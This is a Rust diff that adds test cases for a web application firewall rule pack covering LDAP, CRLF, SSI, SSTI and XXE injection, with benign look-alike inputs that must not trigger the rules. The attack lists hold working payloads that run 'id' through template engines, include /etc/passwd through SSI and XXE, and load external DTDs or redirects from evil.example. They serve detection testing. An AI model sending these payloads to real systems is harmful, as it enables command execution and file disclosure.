@@ -1418,6 +1418,291 @@ fn path_bypasses() -> Vec<(&'static str, Req)> {
 }
 
 // ---------------------------------------------------------------------------
+// LDAP, CRLF, SSI, SSTI and XXE (55-ldap … 59-xxe)
+
+/// `s` as the body of a JSON string: quotes, backslashes and control
+/// characters escaped (`unicode`: every character as `\uXXXX`).
+fn json_str(s: &str, unicode: bool) -> String {
+    let mut out = String::new();
+    for c in s.chars() {
+        match c {
+            _ if unicode => out.push_str(&format!("\\u{:04x}", u32::from(c))),
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            c if u32::from(c) < 0x20 => out.push_str(&format!("\\u{:04x}", u32::from(c))),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// `s` with every character as an XML character reference.
+fn xml_refs(s: &str) -> String {
+    s.chars().map(|c| format!("&#x{:x};", u32::from(c))).collect()
+}
+
+/// `s` with `&`, `<` and `>` escaped for XML text.
+fn xml_text(s: &str) -> String {
+    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
+}
+
+/// `payload` in every placement and encoding the class rules cover:
+/// `(rule id, request)`, where `header` is the phase-1 rule (headers, the
+/// path) and `args` the phase-2 rule (arguments, cookies, XML text). A
+/// header or cookie cannot carry CR/LF or `;` as such: there they are
+/// percent-encoded, as an application would have to decode them.
+///
+/// Base64 (standard and url-safe) only where the decoding layer can see
+/// it: 12 symbols or more (`base64DecodeAuto`'s minimum).
+fn everywhere(header: i64, args: i64, payload: &str) -> Vec<(i64, Req)> {
+    let b64_std = b64(payload.as_bytes(), false);
+    let b64_url = b64(payload.as_bytes(), true);
+    let in_header = payload.replace('\r', "%0D").replace('\n', "%0A");
+    let in_cookie = in_header.replace(';', "%3B").replace(' ', "%20");
+    let mut v = vec![
+        (args, q(payload)),
+        (args, raw(&format!("/search?q={}", enc(&enc(payload))))),
+        (args, form(&[("name", "Jane"), ("comment", payload)])),
+        (args, json(&format!(r#"{{"user":"jane","query":"{}","page":1}}"#, json_str(payload, false)))),
+        (args, json(&format!(r#"{{"query":"{}"}}"#, json_str(payload, true)))),
+        (args, xml(&format!("<?xml version=\"1.0\"?><order><item>{}</item></order>", xml_text(payload)))),
+        (args, xml(&format!("<order><item>{}</item></order>", xml_refs(payload)))),
+        (args, Req::get("/account").header("Cookie", &format!("theme=dark; pref={in_cookie}; sid=4f1c2a"))),
+        (header, Req::get("/account").header("X-Search-Filter", &in_header)),
+        (header, Req::get("/account").header("X-Search-Filter", &enc(&enc(payload)))),
+        (header, Req::get("/").header("User-Agent", &in_header)),
+        (header, Req::get("/").header("Referer", &format!("https://shop.example.com/{}", enc(payload)))),
+        (header, Req::get(&format!("/files/{}/view", enc(payload)))),
+        (header, Req::get(&format!("/files/{}/view", enc(&enc(payload))))),
+    ];
+    if payload.is_ascii() {
+        v.push((args, q_bytes(&utf16le(payload))));
+    }
+    let mut encoded = Vec::new();
+    if b64_url.len() >= 12 {
+        encoded.push(b64_url);
+    }
+    if b64_std.trim_end_matches('=').len() >= 12 {
+        encoded.push(b64_std);
+    }
+    for e in encoded {
+        v.push((args, q(&e)));
+        v.push((args, json(&format!(r#"{{"query":"{e}"}}"#))));
+        v.push((args, Req::get("/account").header("Cookie", &format!("theme=dark; pref={e}"))));
+        v.push((header, Req::get("/account").header("X-Search-Filter", &e)));
+    }
+    v
+}
+
+/// Attacks the class rules must catch (55-ldap, 56-crlf, 57-ssi, 58-ssti,
+/// 59-xxe): each payload in every placement and encoding of `everywhere`.
+fn class_attacks() -> Vec<(i64, Req)> {
+    let mut v: Vec<(i64, Req)> = Vec::new();
+    let mut add = |header: i64, args: i64, payloads: &[&str]| {
+        for p in payloads {
+            v.extend(everywhere(header, args, p));
+        }
+    };
+    // 55-ldap
+    add(4255100, 4255110, &[
+        "*)(uid=*))(|(uid=*",
+        "jsmith)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)",
+        "admin)(&(objectClass=person)",
+        "x)(!(cn=nobody)",
+        "*)(&)",
+        "admin)(cn=*)",
+        "*)(mail=*)%00",
+        "admin*))%00",
+        "*)( | ( uid = *",
+        "*(|(mail=*))",
+        "admin*)((|userpassword=*)",
+        "(|(objectClass=*))",
+    ]);
+    // 56-crlf
+    add(4256100, 4256110, &[
+        "jane@example.org\r\nBcc: a@spam.example, b@spam.example",
+        "en\r\nSet-Cookie: sid=attacker; Path=/",
+        "/home\r\nLocation: https://evil.example/login",
+        "de\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
+        "x\nX-Forwarded-Host: evil.example",
+        "Your order is ready\r\nBcc: victim@example.net",
+        "fr\r\n\r\n<script>alert(1)</script>",
+        "a@b.example%0d%0aCc:%20c@d.example",
+        "jane@example.org\nReply-To: phish@evil.example",
+        "report\nContent-Type: text/html",
+        "nl\r\nRefresh: 0; url=https://evil.example/",
+        "us\rAccess-Control-Allow-Origin: https://evil.example",
+        "%0d%0aSet-Cookie:crlf=injection",
+        "\u{560a}\u{560d}Set-Cookie:crlf=injection",
+    ]);
+    // 57-ssi
+    add(4257100, 4257110, &[
+        "<!--#exec cmd=\"id\" -->",
+        "<!--# include file=\"/etc/passwd\" -->",
+        "<!--#echo var=\"DATE_LOCAL\" -->",
+        "<!--#set var=\"x\" value=\"1\" --><!--#printenv -->",
+        "<!--#if expr=\"$QUERY_STRING\" -->a<!--#endif -->",
+        "<!--#fsize file=\"index.html\" -->",
+        "<esi:include src=\"http://evil.example/frag\"/>",
+        "<ESI:vars>$(HTTP_COOKIE)</ESI:vars>",
+    ]);
+    // 58-ssti
+    add(4258100, 4258110, &[
+        "{{7*7}}",
+        "{{ 7 * '7' }}",
+        "${7*7}",
+        "#{7*7}",
+        "*{7*7}",
+        "${{7*7}}",
+        "<%= 7*7 %>",
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "{{ lipsum.__globals__['os'].popen('id').read() }}",
+        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
+        "{{ request.application.__globals__.__builtins__.__import__('os') }}",
+        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
+        "{{['id']|filter('system')}}",
+        "{{constructor.constructor('alert(1)')()}}",
+        "{{range.constructor(\"return process\")()}}",
+        "${T(java.lang.Runtime).getRuntime().exec('id')}",
+        "#{''.getClass().forName('java.lang.Runtime')}",
+        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
+        "${pageContext.getClass().forName('java.lang.Runtime')}",
+        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+        "#set($rt=$class.inspect('java.lang.Runtime'))$rt",
+        "<%= system('whoami') %>",
+        "<%= `id` %>",
+        "<% require('child_process').execSync('id') %>",
+        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
+        "{php}echo `id`;{/php}",
+        "{system('id')}",
+        "{$smarty.version}",
+        "@(7*7)",
+        "${{<%[%'\"}}%\\.",
+        "{{ config.items() }}",
+        "{{settings.SECRET_KEY}}",
+    ]);
+    // 59-xxe
+    add(4259100, 4259110, &[
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>",
+        "<!DOCTYPE d [<!ENTITY % dtd SYSTEM \"http://evil.example/a.dtd\"> %dtd;]><d/>",
+        "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>",
+        "<!DOCTYPE a SYSTEM \"/var/www/private.dtd\"><a/>",
+        "<!DOCTYPE a PUBLIC \"-//X//Y\" \"jar:file:///tmp/x.zip!/a.dtd\"><a/>",
+        "<!DOCTYPE x [<!ENTITY e PUBLIC \"-//A//B\" \"ftp://evil.example/e\">]><x>&e;</x>",
+        "<!DOCTYPE b [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><b>&b;</b>",
+        "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
+    ]);
+    // XXE in the request body itself, as sent and in UTF-16.
+    let body = "<?xml version=\"1.0\"?>\n<!DOCTYPE order [\n  <!ENTITY secret SYSTEM \"file:///etc/passwd\">\n]>\n<order><item>&secret;</item></order>";
+    v.push((4259120, xml(body)));
+    v.push((4259120, xml("<!DOCTYPE q [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><q/>")));
+    v.push((4259120, xml("<?xml version=\"1.0\"?><!DOCTYPE svg SYSTEM \"file:///dev/random\"><svg/>")));
+    v.push((4259120, xml("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/\"/></r>")));
+    v.push((4259120, xml("<!DOCTYPE l [<!ENTITY l0 \"ha\"><!ENTITY l1 \"&l0;&l0;&l0;\"><!ENTITY l2 \"&l1;&l1;&l1;\">]><l>&l2;</l>")));
+    let mut utf16 = vec![0xff, 0xfe];
+    utf16.extend(body.replace("<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>").encode_utf16().flat_map(u16::to_le_bytes));
+    let mut r = Req::post("/api/v1/orders.xml", "text/xml", &utf16);
+    r.needs = Needs::Xml;
+    v.push((4259120, r));
+    v.push((4259120, {
+        let mut r = Req::post("/soap", "application/soap+xml; charset=utf-8", body.as_bytes());
+        r.needs = Needs::Xml;
+        r
+    }));
+    v
+}
+
+/// Benign requests close to what the class rules look for: the whole pack
+/// must match nothing on them.
+fn class_look_alikes() -> Vec<Req> {
+    let textarea = [
+        // Parentheses, asterisks and equals signs in prose, code and data.
+        "(see above) (and below)",
+        "Call me on (555) 123-4567 (mobile) or (555) 765-4321 (work)",
+        "f(x)(y) is a curried call; so is g(a)(b=1)",
+        "rating (*)(excl. VAT=19%)",
+        "(x=1)(y=2)",
+        "Our LDAP filter (objectClass=*) returns every entry; what about (&(uid=jane)(ou=people))?",
+        "5 * 3 = 15 (roughly)",
+        "a*(b+c) = a*b + a*c",
+        // Line breaks in messages, header-like lines in prose.
+        "Hello,\r\nI would like to order two chairs.\r\nThanks, Jane",
+        "Agenda\nLocation: town hall\nTime: 7pm",
+        "Hi team,\r\nSubject: hello\r\nSee you on Monday",
+        "Notes\nTo: the team\nFrom: Jane",
+        "Results\nX-Ray: clear\nBlood test: fine",
+        "Hi,\nFrom: jane@example.org\nTo: support@shop.example\nSubject: my order",
+        "Subject: hello",
+        "Content-Type: text/html",
+        "HTTP/1.1 200 OK\nContent-Type: text/html\nContent-Length: 12",
+        "headers:\n  Content-Type: application/json\n  X-Request-Id: 42",
+        "Thanks!\n\n<b>bold</b> and <i>italic</i>",
+        "# Release notes\n\n- Fixed *login*\n- Added `export`",
+        "Dear support,\r\n\r\nmy order #1234 never arrived.\r\nCc: my manager\r\n",
+        // SSI and ESI named in prose, ordinary comments.
+        "How do I enable Server Side Includes (SSI) on Apache? Is the include directive still used?",
+        "<!-- TODO: fix the footer --> <p>Footer</p>",
+        "#include <stdio.h>\nint main(void) { return 0; }",
+        "see issue #exec-42 and the #include-what-you-use notes",
+        "Edge Side Includes (ESI) are processed by Varnish and Akamai",
+        // Templates a template editor or a docs page holds.
+        "Hello {{name}}, your order {{order.id}} ships {{ship_date}}",
+        "{{#each items}}<li>{{this.title}}</li>{{/each}}{{> footer}}",
+        "{% for item in cart.items %}{{ item.title | escape }} x {{ item.quantity }}{% endfor %}",
+        "{% if user %}Welcome back{% else %}Sign in{% endif %}",
+        "{{ price | money_with_currency }} {{{raw_html}}}",
+        "export PATH=${HOME}/bin:${PATH}",
+        "const msg = `Hello ${user.firstName}, you have ${count} new messages`;",
+        "<%= link_to 'Home', root_path %> <% @items.each do |item| %><%= item.name %><% end %>",
+        "def __init__(self, name):\n    self.name = name\n    print(self.__class__.__name__)",
+        "Python's __subclasses__() and __globals__ explained",
+        "#set is a Velocity directive; ${7} and {{7}} are fine",
+        "Total: {{ 7 }} items, {{ count * price }}",
+        "Use ${jdbc.url} and #{bean.property} in Spring config",
+        "<a href=\"${pageContext.request.contextPath}/login\">Log in</a>",
+        "const m = `${/(\\d+)/.exec (s)[1]} of ${fn.invoke(x)}`;",
+        "{{ request.environ['REMOTE_ADDR'] }} {{ dump(app) }}",
+        // XXE named in prose.
+        "What is an XXE (XML external entity) attack? It abuses entity declarations in a DTD.",
+        // Shapes found in source code and documentation that the first
+        // drafts of these rules matched.
+        "--NMuMz9nt05w80d4+\nContent-Type: text/plain; charset=us-ascii\nContent-Disposition: inline",
+        "--BOUNDARY\r\nContent-Type: message/rfc822\r\nMIME-Version: 1.0",
+        "local opt_var=opt__${cmd//-/_}__${prev//-/_}",
+        "alias pi for k in %1.__dict__.keys(): print(f\"%1.{k} = {%1.__dict__[k]}\")",
+        "if ($argc < 2) {\n    system (\"ls -l\");\n}\nelse { exec ('perldoc', $0); }",
+        "Borrowing ( &), Bounds ( X: Y), enum, impl (!)",
+    ];
+    let mut v: Vec<Req> = Vec::new();
+    for t in textarea {
+        v.push(form(&[("name", "Jane"), ("message", t)]));
+        v.push(json(&format!(r#"{{"title":"Notes","body":"{}"}}"#, json_str(t, false))));
+    }
+    for s in ["(555) 123-4567 (mobile)", "(x=1)(y=2)", "{{name}}", "${HOME}", "Subject: hello", "union station select seats"] {
+        v.push(q(s));
+        v.push(Req::get("/").header("X-Note", s));
+    }
+    v.push(q("jane.doe+shop@example.com"));
+    v.push(q(&b64("Hello {{name}}, see you (tomorrow) at 5".as_bytes(), false)));
+    v.push(Req::get("/wiki/Foo_(bar)_(baz)"));
+    v.push(Req::get("/templates/%7B%7Bname%7D%7D/preview"));
+    v.push(Req::get("/").header("Cookie", "tmpl=%7B%7Bname%7D%7D; theme=dark"));
+    // XML bodies with a DOCTYPE that loads nothing (4259120 reads them raw);
+    // in a form field the pack's XSS rules (4215210, 4250100) flag markup
+    // like this anyway.
+    v.push(xml("<?xml version=\"1.0\"?>\n<!DOCTYPE note>\n<note><to>Jane</to><body>Line one\r\nLine two</body></note>"));
+    v.push(xml("<!DOCTYPE html><html><head><title>Hi</title></head><body>Hello</body></html>"));
+    v.push(xml("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body>Hi</body></html>"));
+    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg><title>logo</title></svg>"));
+    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC \"-//W3C//ENTITIES Latin 1 for XHTML//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]><rss version=\"2.0\"><channel><title>News</title></channel></rss>"));
+    v.push(xml("<!DOCTYPE note [<!ENTITY company \"Example Ltd\"><!ENTITY copy \"&#169;\"><!ENTITY sig \"&company; &copy; 2026\">]><note>&sig;</note>"));
+    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE note [<!ENTITY company \"Example Ltd\">]><note>&company; says hi</note>"));
+    v.push(xml("<?xml version=\"1.0\"?><feed><entry><title>{{title}} and ${HOME}</title></entry></feed>"));
+    v
+}
+
+// ---------------------------------------------------------------------------
 // Rule text
 
 /// One rule (a chain counts as one) as written in a file.
@@ -1524,6 +1809,11 @@ const ATTACK_TAGS: &[&str] = &[
     "attack-protocol",
     "attack-ssrf",
     "attack-nosql",
+    "attack-ldap",
+    "attack-crlf",
+    "attack-ssi",
+    "attack-ssti",
+    "attack-xxe",
     "scanner",
 ];
 
@@ -1599,7 +1889,8 @@ fn rules_follow_the_pack_conventions() {
 #[test]
 fn every_rule_catches_its_attacks() {
     let rules = pack();
-    let cases = attacks();
+    let mut cases = attacks();
+    cases.extend(class_attacks());
     let mut ran = 0;
     let mut skipped: Vec<String> = Vec::new();
     let mut failures: Vec<String> = Vec::new();
@@ -1653,7 +1944,8 @@ fn extra_headers(req: &Req) -> String {
 #[test]
 fn look_alikes_match_nothing() {
     let rules = pack();
-    let cases = look_alikes();
+    let mut cases = look_alikes();
+    cases.extend(class_look_alikes());
     let mut ran = 0;
     let mut failures: Vec<String> = Vec::new();
     for req in &cases {
